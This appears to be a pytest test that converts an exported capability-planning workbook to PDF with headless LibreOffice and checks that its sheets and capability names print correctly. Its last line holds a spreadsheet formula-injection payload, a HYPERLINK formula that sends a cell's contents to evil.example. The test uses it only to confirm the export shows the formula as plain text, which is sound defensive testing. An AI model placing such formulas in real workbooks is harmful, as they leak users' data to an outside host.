"""Optional oracle: LibreOffice opens the workbook and prints every sheet (skipped without soffice)."""

from __future__ import annotations

import io
import shutil
import subprocess
from pathlib import Path

import pytest
from pypdf import PdfReader

from exports.xlsx.workbook import write_xlsx
from planner.model.capmodel import CapabilityModel
from planner.report.data import build_report
from tests.unit.test_export_support import hostile_project

SOFFICE = shutil.which("soffice")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_prints_the_workbook(model: CapabilityModel, tmp_path: Path) -> None:
    project = hostile_project(model)
    book = tmp_path / "book.xlsx"
    write_xlsx(build_report(project), book)
    profile = (tmp_path / "profile").as_uri()
    done = subprocess.run(
        [
            str(SOFFICE),
            "--headless",
            f"-env:UserInstallation={profile}",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(book),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    pdf = tmp_path / "book.pdf"
    assert pdf.is_file(), done.stderr
    reader = PdfReader(io.BytesIO(pdf.read_bytes()))
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    assert len(reader.pages) >= 4
    assert "Score by domain" in text and "Method" in text
    for cap in project.model.iter_capabilities():
        assert cap.name in text, cap.name
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in text  # shown as typed, never evaluated
